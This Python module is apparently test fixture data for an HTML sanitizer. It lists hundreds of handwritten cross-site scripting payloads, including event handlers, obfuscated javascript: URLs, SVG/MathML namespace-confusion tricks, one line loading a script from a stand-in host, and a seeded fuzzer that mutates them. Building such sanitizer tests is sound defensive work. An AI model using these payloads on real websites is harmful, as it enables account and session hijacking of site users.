"""Handwritten hostile HTML, and a seeded generator that combines and corrupts it."""
import random

CALL = "window.broken('ran')"
WORD = "javascript:window.broken('ran')"

# Each line is a document of its own. {c} is a call that must never be made, {j} a link that makes it.
DOCUMENTS = r'''
<script>{c}</script>
<SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>
<scr<script>ipt>{c}</scr</script>ipt>
<script/x>{c}</script>
<script >{c}</script >
<<script>{c}//<</script>
<script>/*<!--*/{c}//--></script>
<script><!--<script>{c}</script>--></script><img src=x onerror={c}>
<script type=module>{c}</script>
<script type="text/plain"></script><script>{c}</script>
<noscript><p title="</noscript><img src=x onerror={c}>"></noscript>
<noscript><style></noscript><img src=x onerror={c}></style>
<noscript><!--</noscript><img src=x onerror={c}>--></noscript>
<img src=x onerror={c}>
<img src=x onerror={c}//
<img/src=x/onerror={c}>
<img src=x:x onerror	=	{c}>
<img src="x" ONERROR="{c}">
<img src="x`" onerror={c}`>
<img src='x'onerror='{c}'>
<img src=x onerror=&#119;indow.broken('ran')>
<img """><img src=x onerror={c}>">
<img src=x" title="><img src=y onerror={c}>">
<img srcset=",,," onerror={c}>
<img srcset="{j} 1x, x 2x" src={j}>
<img src=`x`onerror={c}>
<img src=x onerror=
{c}>
<img lowsrc={j} dynsrc={j} src=x>
<image src=x onerror={c}>
<picture><source srcset={j}><source srcset=x onerror={c}><img src=x onerror={c}></picture>
<body onload={c}>
<body onpageshow={c} onhashchange={c}><p>x
<html onmouseenter={c}><p>x
<svg onload={c}>
<svg/onload={c}>
<svg><script>{c}</script></svg>
<svg><script href="data:text/javascript,{c}"></script></svg>
<svg><a xlink:href="{j}"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="{j}"></animate><text y=20>x</text></a></svg>
<svg><set attributeName=onload to="{c}"></set></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={c}></svg>#x"></use></svg>
<svg><image href=x onerror={c}></image></svg>
<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{c}</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror={c}></style></svg>
<svg><style>&lt;img src=x onerror={c}&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror={c}>">
<svg><p><style><a title="</style><img src=x onerror={c}>"></style></p></svg>
<svg><desc><p></svg><img src=x onerror={c}>
<svg><title><style><img src="</style><img src=x onerror={c}>"></style></title></svg>
<svg><![CDATA[><img src=x onerror={c}>]]></svg>
<svg><a><title><textarea></title></a></textarea><img src=x onerror={c}></svg>
<svg><template><img src=x onerror={c}></template></svg>
<svg><handler>{c}</handler><discard onbegin={c}>
<math href="{j}">x</math>
<math><a xlink:href="{j}">x</a></math>
<math><mtext><table><mglyph><style><img src=x onerror={c}></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror={c}>">
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror={c}>"></style></h1>
<math><annotation-xml encoding="text/html"><img src=x onerror={c}></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><style><img src="</style><img src=x onerror={c}>"></style></annotation-xml></math>
<math><mi><style><img src="</style><img src=x onerror={c}>"></style></mi></math>
<math><maction actiontype=statusline xlink:href="{j}">x</maction></math>
<math><style><style><img src=x onerror={c}></style></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}></style></mglyph></form>
<form id=outer><div></form><form id=inner><input name=attributes>
<form action="{j}"><input type=submit><button formaction="{j}">x</button><input type=image src=x onerror={c}></form>
<form><input name=nodeName><input id=parentNode></form>
<isindex action="{j}" type=submit>
<isindex type=image src=x onerror={c}>
<input onfocus={c} autofocus>
<textarea onfocus={c} autofocus></textarea><select onfocus={c} autofocus></select>
<button onclick={c}>x</button><keygen onfocus={c} autofocus>
<details open ontoggle={c}><summary>x</summary>y</details>
<dialog open onclose={c}>x</dialog><p popover onbeforetoggle={c}>y</p>
<video src=x onerror={c}></video><video><source onerror={c}></video>
<audio src=x onloadstart={c} onerror={c}></audio>
<video poster="{j}"><track default src="{j}" oncuechange={c}></video>
<iframe src="{j}"></iframe>
<iframe srcdoc="<script>parent.{c}</script>"></iframe>
<iframe src="data:text/html,<script>parent.{c}</script>"></iframe>
<iframe src="about:blank" onload={c}></iframe>
<iframe><img src=x onerror={c}></iframe>
<iframe></iframe><img src=x onerror={c}></iframe>
<iframe/src="https://www.youtube.com.elsewhere.example/embed/abcdefghijk" onload={c}></iframe>
<iframe src="https://www.youtube.com@elsewhere.example/embed/abcdefghijk"></iframe>
<frameset onload={c}><frame src="{j}"></frameset>
<object data="{j}"></object><embed src="{j}">
<object data="data:text/html,<script>parent.{c}</script>" type="text/html"></object>
<object><param name=src value="{j}"><embed code="{j}"></object>
<applet code="x" codebase="{j}"></applet>
<portal src="{j}"></portal><fencedframe src=x></fencedframe>
<link rel=stylesheet href="{j}"><link rel=import href="data:text/html,<script>{c}</script>">
<link rel=prefetch href=//elsewhere.example/p><link rel=dns-prefetch href=//elsewhere.example>
<link rel=modulepreload href="data:text/javascript,{c}">
<meta http-equiv=refresh content="0;url={j}">
<meta http-equiv=refresh content="0;url=https://elsewhere.example/">
<meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Content-Security-Policy content="default-src *">
<meta charset=utf-7>+ADw-script+AD4-window.broken()+ADw-/script+AD4-
<base href="https://elsewhere.example/"><a href=x>x</a><img src=y>
<base href="{j}//"><a href=/x>x</a>
<style>@import "https://elsewhere.example/s.css"; p {{background: url(https://elsewhere.example/b)}}</style><p>x
<style><!--</style><img src=x onerror={c}>--></style>
<style></style/><img src=x onerror={c}>
<p style="background:url({j})">x</p><p style="background:url(https://elsewhere.example/b)">y</p>
<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x);width:expression({c})">x</p>
<p style="animation:x" onanimationstart={c}>x</p><style>@keyframes x {{}}</style>
<table background="https://elsewhere.example/b"><td background="{j}">x</table>
<body background="https://elsewhere.example/b"><p>x
<a href="{j}">x</a>
<a href=" {j}">x</a>
<a href="&#1;{j}">x</a><a href="&#x1b;{j}">y</a>
<a href="java&#9;script:window.broken('ran')">x</a><a href="java&#10;script:window.broken('ran')">y</a>
<a href="java&Tab;script&colon;window.broken('ran')">x</a><a href="javascript&#58;window.broken('ran')">y</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.broken('ran')">x</a>
<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058;x">y</a>
<a href="JaVaScRiPt:window.broken('ran')">x</a><a href="javascript://example.org/%0Awindow.broken('ran')">y</a>
<a href="http://example.org/" href="{j}">x</a><a href="{j}" href="http://example.org/">y</a>
<a href="vbscript:x">x</a><a href="livescript:x">y</a><a href="mocha:x">z</a>
<a href="data:text/html,<script>{c}</script>">x</a><a href="DATA:text/html;base64,PHNjcmlwdD4=">y</a>
<a href="blob:https://judge.test/1">x</a><a href="filesystem:https://judge.test/1">y</a><a href="file:///etc/passwd">z</a>
<a href="view-source:https://judge.test/">x</a><a href="about:blank">y</a><a href="intent://x#Intent;end">z</a>
<a href="feed:{j}">x</a><a href="feed:data:text/html,<script>{c}</script>">y</a><a href="jar:{j}!/">z</a>
<a href="ms-msdt:/id x">x</a><a href="search-ms:query=x">y</a><a href="wyciwyg://x">z</a>
<a href=javascript&colon;window.broken('ran')>x</a>
<a href="x:javascript:{c}">x</a><a href="//javascript:{c}">y</a>
<a href="https://example.org/&quot; onclick=&quot;{c}">x</a><a href='https://example.org/" onclick="{c}'>y</a>
<a href="https://example.org/" target=_blank ping=//elsewhere.example onclick={c} download>x</a>
<a href="#" name=location id=document>x</a><a id=x><a id=x name=y href="{j}">z</a>
<a class=player data-player=youtube href="{j}">x</a><a class=player data-player=audio href="data:text/html,x">y</a>
<map name=m><area shape=default href="{j}"></map><img usemap=#m src=x>
<a href=https://l.facebook.com/l.php?u=javascript%3Awindow.broken('ran')>x</a>
<a href="https://www.google.com/url?q=data:text/html,<script>{c}</script>">x</a>
<p title='"><img src=x onerror={c}>'>x</p><p title="'><img src=x onerror={c}>">y</p>
<p title="</p><script>{c}</script>">x</p><abbr title="&quot;&gt;&lt;img src=x onerror={c}&gt;">y</abbr>
<p title=`x` title="`onmouseover={c}">x</p>
<p id="x&quot; onclick=&quot;{c}" class='language-"onclick={c}'>x</p><code class='language-"><script>'>y</code>
<p lang='"><script>{c}</script>' dir='"onclick="'>x</p>
<time datetime='2026"><img src=x onerror={c}>'>x</time><ol start='1"onclick='><li value='"onclick='>y</ol>
<td colspan='2" onclick="{c}'>x</td><table><td rowspan='9"onclick="{c}'>y</table>
<!--><img src=x onerror={c}>-->
<!---><img src=x onerror={c}>-->
<!-- --!><img src=x onerror={c}> -->
<!-- <img src=x --onerror={c}> -->
<!--<img src="--><img src=x onerror={c}//">
<![if !IE]><img src=x onerror={c}><![endif]>
<!--[if gte IE 4]><script>{c}</script><![endif]-->
<?xml version="1.0"?><img src=x onerror={c}>
<?php echo "><img src=x onerror={c}>" ?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror={c}>">]>&y;
</br onload={c}><//img src=x onerror={c}></ img src=x onerror={c}>
<%<img src=x onerror={c}>%>
<![CDATA[<img src=x onerror={c}>]]>
<![CDATA[<!--]]><img src=x onerror={c}>-->
<title><img src=x onerror={c}></title><title>&lt;/title&gt;<img src=x onerror={c}></title>
<textarea><img src=x onerror={c}></textarea><textarea></textarea><img src=x onerror={c}></textarea>
<xmp><img src=x onerror={c}></xmp><xmp></xmp><img src=x onerror={c}></xmp>
<xmp><p title="</xmp><img src=x onerror={c}>">
<listing>&lt;img src=x onerror={c}&gt;</listing><plaintext><img src=x onerror={c}>
<noembed><img src=x onerror={c}></noembed><noframes><img src=x onerror={c}></noframes>
<noembed><noembed></noembed><style></noembed><img src=x onerror={c}></style>
<template><script>{c}</script><img src=x onerror={c}></template>
<template shadowrootmode=open><img src=x onerror={c}></template>
<div><template shadowroot=open><script>{c}</script></template></div>
<select><option><style></option></select><img src=x onerror={c}></style>
<select><template><img src=x onerror={c}></template></select>
<select><iframe></select><img src=x onerror={c}></iframe>
<select><xmp><script>{c}</script></xmp></select><datalist><option><img src=x onerror={c}></datalist>
<select><svg><style><img src=x onerror={c}></style></svg></select>
<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror={c}></option></select>
<table><caption><svg><style></caption><img src=x onerror={c}></style></svg></table>
<table><style><img src=x onerror={c}></style><script>{c}</script><td>x</table>
<table><a href="{j}">x<td><img src=x onerror={c}></table>
<table><input type=hidden onfocus={c}><form onsubmit={c}><tr><td>x</table>
<table><colgroup><template><col onclick={c}></template><img src=x onerror={c}></table>
<b><i></b><img src=x onerror={c}></i><p><b></p><script>{c}</script>
<a><b><a><b><a href="{j}"><table><a><img src=x onerror={c}></table>
<p><svg></p><style><img src="</style><img src=x onerror={c}>">
<h1><svg></h1><h2><math></h2><img src=x onerror={c}>
<marquee onstart={c}>x</marquee><blink onclick={c}>y</blink><bgsound src="{j}">
<marquee loop=1 onfinish={c}>x</marquee><nextid n=x><spacer onclick={c}><multicol onclick={c}>x
<layer src="{j}"></layer><ilayer src="{j}"></ilayer><xss onmouseover={c}>x</xss><x onclick={c}>y
<xml id=x><a href="{j}">y</a></xml><xml:namespace prefix=t><t:set onbegin={c}>
<custom-element is=x onclick={c}>x</custom-element><p is=custom-p>x</p><slot onslotchange={c}></slot>
<object type="image/svg+xml" data="data:image/svg+xml,<svg onload={c}/>"></object>
<img src="data:image/svg+xml,<svg onload={c}/>"><img src="data:text/html,<script>{c}</script>">
<input type=image src=x onerror={c}><input type=checkbox disabled onclick={c}>
<menu id=m type=context onshow={c}><menuitem onclick={c}></menu><command onclick={c}>
<canvas onclick={c}>x</canvas><meter onclick={c}><progress onclick={c}><output onclick={c}>x
<ruby onclick={c}>x<rt onclick={c}>y</ruby><bdo dir=rtl onclick={c}>z</bdo><wbr onclick={c}><hr onclick={c}>
<p accesskey=x onclick={c} contenteditable onbeforeinput={c} tabindex=1 onfocusin={c}>x</p>
<p onscrollend={c} onpointerrawupdate={c} onwebkitanimationend={c} onunknown={c}>x</p>
<p on={c} onclick onClIcK={c} on-click={c} v-on:click={c} @click={c} ng-click={c} x-on:click={c}>x</p>
<p data-bind="click:{c}" data-ng-init="{c}" hx-on:click="{c}">{{{{constructor.constructor("{c}")()}}}}</p>
<p slot=x part=y exportparts=z nonce=abc integrity=x crossorigin>x</p>
<a href=https://example.org/ rel=opener referrerpolicy=unsafe-url>x</a>
<img src=x ismap usemap=#x crossorigin=use-credentials attributionsrc=//elsewhere.example>
<a href=https://example.org/ attributionsrc=//elsewhere.example interestfor=x>x</a>
<button command=show-modal commandfor=x popovertarget=x>y</button>
<script type=speculationrules>{{"prefetch":[{{"urls":["https://elsewhere.example/"]}}]}}</script>
<script type=importmap>{{"imports":{{}}}}</script><script async src=x></script>
<p>&lt;script&gt;{c}&lt;/script&gt;</p><p>&amp;lt;img src=x onerror={c}&amp;gt;</p>
<p>&#60img src=x onerror={c}&#62</p><p>&LT;img src=x onerror={c}&GT;</p><p>&#x3c;script&#x3e;</p>
<svg><p>&lt;/svg&gt;&lt;img src=x onerror={c}&gt;</p></svg><pre>&lt;img src=x onerror={c}&gt;</pre>
<listing>
&lt;/listing&gt;&lt;img src=x onerror={c}&gt;</listing>
<a title="&lt;/a&gt;&lt;img src=x onerror={c}&gt;" href=x>y</a><img alt="--&gt;&lt;img src=x onerror={c}&gt;" src=y>
<img alt="]]&gt;&lt;/style&gt;&lt;/title&gt;&lt;/textarea&gt;&lt;/xmp&gt;&lt;/noscript&gt;&lt;img src=x onerror={c}&gt;" src=y>
<img title="<!--" src=y><img alt="--><img src=x onerror={c}>" src=z>
<p>--&gt;</p>&lt;!--<img src=x alt="--><img src=y onerror={c}>">
<a href="x" <img src=y onerror={c}>
<a href="x
<img src=y onerror={c}>
<p title="<img src=x onerror={c}>
<img src=x onerror="{c}
<p title=&quot;><img src=x onerror={c}>&quot;>x
<math><mi><b>x<a href="{j}">y</a></b></mi><mtext>&lt;img src=x onerror={c}&gt;</mtext></math>
<math><mtext><b><img src=x onerror={c}></b></mtext><mi>x</mi></math>
<script type="math/tex"><img src=x onerror={c}></script><script type="math/tex">\href{{{j}}}{{x}}</script>
<span class=katex><math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror={c}></annotation-xml></semantics></math></span>
<math><mtext><malignmark><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;"></malignmark></mtext><mi>y</mi></math>
<malignmark><mi>x</mi></malignmark><mglyph display=block><img src=x onerror={c}></mglyph>
<mml:math><mml:mi onclick={c} href="{j}">x</mml:mi><mml:maction actiontype="statusline" href="{j}"><mml:mi>y</mml:mi></mml:maction></mml:math>
<math><mrow style="position:fixed" onclick={c}><mpadded voffset="-999px" width="9999px"><mi class=x id=location>x</mi></mpadded></mrow></math>
<iframe src=x onload={c} /><img src=x onerror={c}><iframe></iframe>
<style/><img src=x onerror={c}><style></style><script/><img src=y onerror={c}><script></script>
<code class="tex" onclick={c}>\href{{{j}}}{{x}}</code>
'''

WRAPPERS = """
svg math math:mtext math:mi svg:foreignObject svg:desc svg:title svg:style math:annotation-xml style script noscript template
select table table:td table:caption textarea title xmp listing plaintext noembed noframes iframe object form button a b p pre
li h1 figure picture video details ruby frameset marquee nobr option svg:a svg:script math:mglyph math:malignmark
""".split()

CORRUPTIONS = ["\0", "\t", "\n", "\f", "/", "<", ">", "'", '"', "`", "=", "&", "&#0;", "&#9;", "<!--", "-->", "--!>", "<![CDATA[",
            "]]>", "</", "\u00a0", "\u2028", "\ufeff", "\x01", "\x7f", "\u0130", "<x", "&lt;", "&gt", "\U000f0000", " x ", "</p>"]


def handwritten():
    """The documents above, with the call and the link in place."""
    text = DOCUMENTS.replace("{{", "\1").replace("}}", "\2").replace("{c}", CALL).replace("{j}", WORD)
    text = text.replace("\1", "{").replace("\2", "}")
    return [line for line in text.split("\n") if line]


def generated(count, seed):
    """`count` combinations: documents nested in wrappers that need not be closed, cut, joined and corrupted."""
    rng = random.Random(seed)
    seeds = handwritten()
    return [corrupted(rng, combined(rng, seeds)) for _ in range(count)]


def combined(rng, seeds):
    document = rng.choice(seeds)
    for _ in range(rng.randint(1, 4)):
        way = rng.randrange(4)
        if way == 0:
            document += rng.choice(seeds)
        elif way == 1:
            other = rng.choice(seeds)
            at = rng.randrange(len(other))
            document = other[:at] + document + other[at:]
        else:
            document = wrapped(rng, document)
    return document


def wrapped(rng, document):
    names = rng.choice(WRAPPERS).split(":")
    start = "".join(f"<{name}{rng.choice(['', '', ' ', '/', ' x=1', ' class=y'])}>" for name in names)
    end = "".join(f"</{name}>" for name in reversed(names))
    return start + document + (end if rng.random() < 0.6 else "") + rng.choice(["", rng.choice(names), "</p>", "</table>"])


def corrupted(rng, document):
    for _ in range(rng.randrange(4)):
        at = rng.randrange(len(document) + 1)
        way = rng.randrange(4)
        if way == 0:
            document = document[:at] + rng.choice(CORRUPTIONS) + document[at:]
        elif way == 1:
            document = document[:at] + document[at + rng.randrange(1, 6):]
        elif way == 2:
            document = document[:at] + document[at:at + 12].swapcase() + document[at + 12:]
        else:
            document = document[:max(at, 8)]
    return document
